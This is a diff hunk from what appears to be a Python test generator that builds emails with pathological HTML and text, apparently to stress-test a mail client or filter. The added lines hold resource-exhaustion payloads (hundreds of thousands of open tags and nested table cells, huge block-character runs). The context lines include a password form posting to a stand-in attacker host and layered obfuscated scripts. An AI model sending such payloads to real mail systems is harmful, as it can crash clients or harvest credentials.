@@ -42,6 +42,11 @@ layers = b"<form action='https://evil.test/'><input type=password></form>"
 for _ in range(12):
     layers = b"<script>document.write(atob('" + base64.b64encode(layers * 2)[:300000] + b"'))</script>"
 mail("script-layers", files=[("l.html", layers)])
+mail("open-tags", files=[("t.html", b"<!DOCTYPE html><html>" + b"<a " * 400000)])
+mail("cells", text="<table>" + "<tr><td bgcolor=#000 colspan=200>" * 300000, kind="text/html; charset=utf-8")
+mail("tables", text=("<table>" + "<tr><td colspan=200>" * 25) * 10000, kind="text/html; charset=utf-8")
+mail("blocks", text=("\u2588\u2580" * 20 + "\r\n") * 100000)
+mail("blocks-parted", text=(("\u2588\u2580" * 12 + "\r\n") * 25 + "x\r\n") * 3000)
 mail("escapes", files=[("e.html", b"<script>" + b"%3" * (1 << 20) + b"</script>")])
 mail("equals", text="https://x.test/?a" + "=" * 8000 + "\r\n" + "https://x.test/" + "a=" * 4000 + "\r\n")
 mail("links-in-links", text="\r\n".join("https://a.test/?u=" + "https%3A//b.test/%3Fu=" * 300 + str(i) for i in range(300)))
